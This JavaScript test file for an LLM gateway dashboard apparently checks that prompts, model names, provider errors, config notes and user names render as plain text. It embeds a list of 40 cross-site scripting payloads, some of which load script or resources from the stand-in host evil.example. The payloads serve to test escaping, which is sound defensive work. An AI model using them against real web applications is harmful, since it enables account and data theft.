// Whatever somebody puts into a prompt, a model's name, a provider's error, a user's name or a note is text on every page, never markup.
import assert from "node:assert/strict";
import { test } from "node:test";

import { admin, chatFetch, plainConfig, tireless, until, useDashboard } from "./lib/world.mjs";

const run = "window.__xss=1";
const payloads = [
  `<script>${run}</script>`,
  `"><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `<!--><script>${run}</script>-->`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script src=//evil.example/x.js></script>`,
  `<img src=x onerror=${run}>`,
  `<img src=//evil.example/x.png>`,
  `"><img src=x onerror="${run}">`,
  `'><img src=x onerror='${run}'>`,
  `<img/src=x/onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<body onload=${run}>`,
  `<iframe src="javascript:parent.__xss=1"></iframe>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<a href="javascript:${run}">here</a>`,
  `[here](javascript:${run})`,
  `![x](https://evil.example/x.png)`,
  `[here](//evil.example/)`,
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `<details open ontoggle=${run}>x</details>`,
  `<input autofocus onfocus=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=//evil.example/">`,
  `<base href="//evil.example/">`,
  `<form action="javascript:${run}"><button>x</button></form>`,
  `<style>@import "//evil.example/x.css";</style>`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `%3Cscript%3E${run}%3C/script%3E`,
];
assert.equal(payloads.length, 40);
const asked = (payload) => `Grüße ${payload} 你好`;
const user = { name: `<b>eve</b>"'&amp;`, password: "correct horse battery" };
// What a provider says that fails: each in its turn.
const said = payloads.map((payload) => [`m${payloads.indexOf(payload)}`, { status: 400, body: JSON.stringify({ error: { message: payload, type: payload, code: payload } }) }]);

async function prepare({ baseURL, control }) {
  for (const [i, payload] of payloads.entries()) {
    await chatFetch(baseURL, { messages: [{ role: "user", content: asked(payload) }] }).then((answer) => answer.text());
    await chatFetch(baseURL, { model: `mock/m${i}`, messages: [{ role: "user", content: "fail" }], metadata: { [payload]: payload } }).then((answer) => answer.text());
    await chatFetch(baseURL, { model: payload, messages: [{ role: "user", content: [{ type: "text", text: payload }] }] }, { headers: { "x-request-id": `hostile-${i}` } }).then((answer) => answer.text());
  }
  for (const payload of payloads) {
    const { json } = await control.call("ConfigService/GetConfig");
    const config = JSON.parse(json);
    config.router.keywords = { t3: [payload.slice(0, 60)] };
    await control.putConfig(config, { note: payload }).catch(() => control.putConfig({ ...config, router: { mode: "keyword", default_tier: "t2" } }, { note: payload }));
  }
  await control.call("UserService/CreateUser", { ...user, role: "ACCOUNT_ROLE_ADMIN" }).catch(() => {
    user.name = "eve-o'neil";
    return control.call("UserService/CreateUser", { ...user, role: "ACCOUNT_ROLE_ADMIN" });
  });
  await until("all records", async () => {
    const { records = [] } = await control.call("LogService/ListRecords", { pageSize: 500 });
    return records.length === 3 * payloads.length;
  });
}

const world = useDashboard({
  prepare,
  mocks: { mock: { script: { models: Object.fromEntries(said) } } },
  config: ({ mock }) => ({ ...plainConfig(mock.baseURL, tireless), logs: { bodies: true } }),
});

// Nothing ran, nothing became an element.
async function clean(page) {
  const found = await page.evaluate(() => ({
    ran: window.__xss,
    elements: [...document.querySelectorAll("script:not([src]), iframe, object, embed, base, meta[http-equiv], [onerror], [onload], [onclick], [ontoggle], [onfocus], a[href^='javascript:' i], img[src*='evil'], link[href*='evil']")].map((element) => element.outerHTML),
  }));
  assert.deepEqual(found, { ran: undefined, elements: [] });
  const foreign = page.watch.requests.filter(({ url }) => url.includes("evil.example"));
  assert.deepEqual(foreign, []);
}

const grid = (page) => page.getByRole("grid");

test("in the list of requests", async () => {
  const page = await world.dashboard.page({ person: admin });
  await page.goto("/logs");
  await grid(page).getByRole("row").nth(1).waitFor();
  for (const payload of [payloads[0], payloads[9], payloads[38]]) {
    const search = page.getByRole("searchbox", { name: "Search preview, request id and error" });
    await search.fill(payload);
    await search.press("Enter");
    await grid(page).getByText(payload, { exact: false }).first().waitFor();
  }
  await clean(page);
  await page.context().close();
});

test("in every drawer: prompt, model's name, provider's error", async () => {
  const page = await world.dashboard.page({ person: admin });
  const { records } = await world.gateway.control.call("LogService/ListRecords", { pageSize: 500 });
  await page.goto("/logs");
  await grid(page).getByRole("row").nth(1).click();
  const drawer = page.getByRole("dialog");
  const next = drawer.getByRole("button", { name: "Next request" });
  // Each record by the arrow; of some, every tab.
  for (let i = 0; i < records.length - 1; ++i) {
    await drawer.getByRole("tab", { name: "Overview" }).waitFor();
    if (i % 30 < 3)
      for (const tab of ["Request", "Response", "Route", "Raw", "Overview"]) await drawer.getByRole("tab", { name: tab }).click();
    if (await next.isDisabled()) break;
    await next.click();
  }
  await clean(page);
  await page.context().close();
});

test("in the terminal, the overview and the charts' tables", async () => {
  const page = await world.dashboard.page({ person: admin });
  await page.goto("/terminal");
  await page.getByRole("option").first().waitFor();
  await page.getByRole("searchbox").fill("<svg");
  await page.getByRole("option").filter({ hasText: "<svg" }).first().waitFor();
  await clean(page);
  await page.goto("/");
  await page.getByRole("heading", { name: "Models", exact: true }).waitFor();
  await page.waitForLoadState("networkidle").catch(() => {});
  await clean(page);
  await page.context().close();
});

test("in the configuration and its history", async () => {
  const page = await world.dashboard.page({ person: admin });
  await page.goto("/config/history");
  const list = page.getByRole("list", { name: "History" });
  await list.getByText(payloads.at(-1)).waitFor();
  for (const payload of payloads.slice(-8)) {
    await list.getByText(payload, { exact: true }).first().click();
    await page.getByRole("region", { name: /Difference between/ }).waitFor();
  }
  await clean(page);
  await page.goto("/config/router");
  await page.getByRole("textbox", { name: "T3 when it says" }).waitFor();
  await page.goto("/config/yaml");
  await page.getByText("providers").first().waitFor();
  await clean(page);
  await page.context().close();
});

test("in the playground: questions, answers, errors, models' names", async () => {
  const page = await world.dashboard.page({ person: admin, expect: [400, 404, 502] });
  await page.goto("/playground");
  const message = page.getByRole("textbox", { name: "Message", exact: true });
  for (const payload of payloads.filter((_, i) => i % 4 === 1)) {
    // The mock's answer is the request as it came: the payload comes back, as text and as fenced text.
    await message.fill(`[[mock: {"echo_request": true}]] ${payload}\n\`\`\`html\n${payload}\n\`\`\``);
    await message.press("Enter");
    await page.getByRole("button", { name: "Stop" }).waitFor({ state: "hidden" });
    await page.getByText(payload).first().waitFor();
  }
  await page.getByRole("combobox").first().click();
  await page.getByPlaceholder("Find or type a name").fill("mock/m9");
  await page.keyboard.press("Enter");
  await message.fill(payloads[9]);
  await message.press("Enter");
  await page.getByText("No answer").first().waitFor();
  await clean(page);
  await page.context().close();
});

test("as the name of who is signed in, and among the users", async () => {
  const page = await world.dashboard.page({ person: user });
  await page.goto("/settings/users");
  await page.getByRole("cell").getByText(user.name).first().waitFor();
  await page.getByRole("button", { name: `Account of ${user.name}` }).waitFor();
  await clean(page);
  await page.context().close();
});
